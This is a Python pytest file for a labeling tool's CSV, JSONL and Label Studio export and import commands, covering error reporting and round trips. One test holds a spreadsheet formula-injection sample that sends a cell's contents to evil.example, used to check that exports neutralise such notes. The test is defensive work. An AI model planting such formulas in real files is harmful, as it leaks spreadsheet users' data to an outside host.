"""``changeover label export|import``: CSV and JSONL out, spreadsheet CSV, JSONL and
Label Studio JSON in; file:line errors, exit 2, all or nothing, never twice."""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path

import pytest

from changeover.cli import run
from changeover.labeling import LabelingService
from changeover.labeling.export import label_rows
from changeover.labeling.submit import Submission
from changeover.store import open_store
from changeover.store.responses import add_records, current_labels

from .conftest import make_spec


@pytest.fixture
def db(sqlite_url, records) -> str:
    with open_store(sqlite_url) as store:
        add_records(store, records, source="xstest")
    return sqlite_url


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _said(capsys) -> str:
    """What the command printed, its line wrapping undone (the lines carry tmp paths of any length)."""
    return " ".join(capsys.readouterr().out.split())


def _labels(db: str) -> dict:
    with open_store(db) as store:
        return current_labels(store)


def test_export_csv_and_jsonl_hold_every_label(tmp_path, db, capsys):
    with open_store(db) as store:
        service = LabelingService(store, make_spec(tmp_path))
        for verdict in (1, 0):
            task = service.next_task("alice")
            service.submit("alice", task, Submission(uuid.uuid4().hex, "label", {"refusal": verdict}))
        task = service.next_task("bob")
        service.submit("bob", task, Submission(uuid.uuid4().hex, "skip"))
    capsys.readouterr()
    assert run(["label", "export", "--format", "csv", "--db", db]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["annotator"], r["status"], r["value"]) for r in rows] == [
        ("alice", "label", "1"),
        ("alice", "label", "0"),
        ("bob", "skip", ""),
    ]
    out = tmp_path / "labels.jsonl"
    assert run(["label", "export", "--format", "jsonl", "--db", db, "--output", str(out)]) == 0
    lines = [json.loads(x) for x in out.read_text().splitlines()]
    assert [x["value"] for x in lines] == [1, 0, None] and lines[0]["in_force"] is True
    assert run(["label", "export", "--format", "xml", "--db", db]) == 2
    assert run(["label", "export", "--db", db, "--output", str(tmp_path / "no" / "such" / "folder.csv")]) == 2
    assert "cannot write it" in capsys.readouterr().err


def test_import_a_spreadsheet_csv_once(tmp_path, db, capsys):
    path = _write(
        tmp_path / "sheet.csv",
        "item,model,dimension,value,annotator\n"
        "v2-1,gpt4,refusal,1,dana\n"
        "v2-1,llama2orig,refusal,no,dana\n"
        "v2-19,gpt4,refusal,yes,erin\n",
    )
    assert run(["label", "import", str(path), "--db", db]) == 0
    assert "3 added" in _said(capsys)
    labels = _labels(db)
    assert labels[("v2-1", "gpt4", "refusal")] == [1] and labels[("v2-1", "llama2orig", "refusal")] == [0]
    assert run(["label", "import", str(path), "--db", db]) == 0
    assert "0 added" in _said(capsys)


def test_import_the_wide_form(tmp_path, db):
    path = _write(
        tmp_path / "wide.csv",
        "item,model,annotator,refusal,notes\nv2-1,gpt4,dana,1,fine\nv2-19,gpt4,dana,,not judged\n",
    )
    assert run(["label", "import", str(path), "--db", db]) == 2  # without --spec no column names a dimension
    spec = tmp_path / "migration.yaml"
    spec.write_text("incumbent: llama2orig\ncandidates: [gpt4]\ndimensions:\n  refusal: {margin: 0.05}\n")
    assert run(["label", "import", str(path), "--db", db, "--spec", str(spec)]) == 0
    assert _labels(db) == {("v2-1", "gpt4", "refusal"): [1]}


@pytest.mark.parametrize(
    "body, where, what",
    [
        (
            "item,model,dimension,value\nv2-1,gpt4,refusal,1\nv2-19,gpt4,refusal,maybe\n",
            "bad.csv:3",
            "a verdict is 1 (acceptable) or 0",
        ),
        (
            "item,model,dimension,value\nv2-1,gpt4,refusal,1\nnope,gpt4,refusal,1\n",
            "bad.csv:3",
            "no stored response for item 'nope'",
        ),
        ("item,model,value\nv2-1,gpt4,1\n", "bad.csv:1", "no columns 'dimension' and 'value'"),
        ("model,dimension,value\ngpt4,refusal,1\n", "bad.csv:1", "missing column(s) item"),
    ],
)
def test_a_bad_file_names_file_and_line_exits_2_and_stores_nothing(tmp_path, db, capsys, body, where, what):
    path = _write(tmp_path / "bad.csv", body)
    assert run(["label", "import", str(path), "--db", db]) == 2
    err = capsys.readouterr().err.replace("\n", "")
    assert where in err and what in err
    assert _labels(db) == {}


def test_import_a_label_studio_export(tmp_path, db, capsys):
    tasks = [
        {
            "id": 11,
            "data": {"item": "v2-1", "model": "gpt4", "text": "..."},
            "annotations": [
                {
                    "id": 101,
                    "completed_by": {"id": 1, "email": "dana@example.com"},
                    "created_at": "2026-11-20T10:00:00.000000Z",
                    "was_cancelled": False,
                    "result": [
                        {
                            "from_name": "refusal",
                            "to_name": "text",
                            "type": "choices",
                            "value": {"choices": ["Acceptable"]},
                        }
                    ],
                },
                {"id": 102, "completed_by": 2, "was_cancelled": True, "result": []},
            ],
        },
        {
            "id": 12,
            "data": {"item": "v2-19", "model": "llama2orig"},
            "annotations": [
                {
                    "id": 103,
                    "completed_by": 2,
                    "result": [{"from_name": "refusal", "type": "choices", "value": {"choices": ["Not acceptable"]}}],
                }
            ],
        },
    ]
    path = _write(tmp_path / "project.json", json.dumps(tasks))
    assert run(["label", "import", str(path), "--db", db]) == 0
    assert _labels(db) == {("v2-1", "gpt4", "refusal"): [1], ("v2-19", "llama2orig", "refusal"): [0]}
    assert run(["label", "import", str(path), "--db", db]) == 0
    assert "0 added" in _said(capsys)
    tasks[1]["annotations"][0]["result"][0]["value"]["choices"] = ["A", "B"]
    bad = _write(tmp_path / "bad.json", json.dumps(tasks))
    assert run(["label", "import", str(bad), "--db", db]) == 2
    assert "bad.json: [1].annotations[0].result[0].value.choices" in capsys.readouterr().err.replace("\n", "")


def test_jsonl_export_round_trips_into_another_store(tmp_path, db, records):
    with open_store(db) as store:
        service = LabelingService(store, make_spec(tmp_path))
        for name in ("alice", "bob"):
            task = service.next_task(name)
            first = uuid.uuid4().hex
            service.submit(name, task, Submission(first, "label", {"refusal": 1}))
            service.submit(name, task, Submission(uuid.uuid4().hex, "label", {"refusal": 0}, corrects=first))
    other = _export_and_import_into_another_store(tmp_path, db, records, "jsonl")
    assert _labels(other) == _labels(db)


def _export_and_import_into_another_store(tmp_path: Path, db: str, records, fmt: str) -> str:
    """``label export`` from ``db``, ``label import`` into a new store holding the same records; its URL."""
    out = tmp_path / f"labels.{fmt}"
    assert run(["label", "export", "--format", fmt, "--db", db, "--output", str(out)]) == 0
    other = f"sqlite:///{tmp_path / 'other.db'}"
    with open_store(other) as store:
        add_records(store, records, source="xstest")
    assert run(["label", "import", str(out), "--db", other]) == 0
    return other


def test_a_flags_note_survives_export_and_import(tmp_path, db, records):
    with open_store(db) as store:
        service = LabelingService(store, make_spec(tmp_path))
        task = service.next_task("alice")
        service.submit("alice", task, Submission(uuid.uuid4().hex, "flag", note="the response is cut off"))
    other = _export_and_import_into_another_store(tmp_path, db, records, "csv")
    back = tmp_path / "back.csv"
    assert run(["label", "export", "--format", "csv", "--db", other, "--output", str(back)]) == 0
    (row,) = csv.DictReader(back.open(encoding="utf-8"))
    assert (row["status"], row["note"]) == ("flag", "the response is cut off")


def test_a_note_a_spreadsheet_would_run_is_exported_inert_and_imported_exact(tmp_path, db, records):
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "'-1: already quoted by hand"]
    with open_store(db) as store:
        service = LabelingService(store, make_spec(tmp_path))
        for note in notes:
            task = service.next_task("alice")
            service.submit("alice", task, Submission(uuid.uuid4().hex, "flag", note=note))
    out = tmp_path / "labels.csv"
    assert run(["label", "export", "--format", "csv", "--db", db, "--output", str(out)]) == 0
    exported = [row["note"] for row in csv.DictReader(out.open(encoding="utf-8"))]
    assert exported == ["'" + note for note in notes]  # a spreadsheet shows them as text
    for fmt in ("csv", "jsonl"):
        (tmp_path / fmt).mkdir()
        other = _export_and_import_into_another_store(tmp_path / fmt, db, records, fmt)
        with open_store(other) as store:
            assert [r["note"] for r in label_rows(store)] == notes, fmt


def test_a_csv_in_a_legacy_encoding_is_a_user_error(tmp_path, db, capsys):
    path = tmp_path / "excel.csv"
    path.write_bytes("item,model,dimension,value,annotator\nv2-1,gpt4,refusal,1,Zoë\n".encode("cp1252"))
    assert run(["label", "import", str(path), "--db", db]) == 2
    assert "excel.csv: not UTF-8 text" in capsys.readouterr().err.replace("\n", "")
    assert _labels(db) == {}
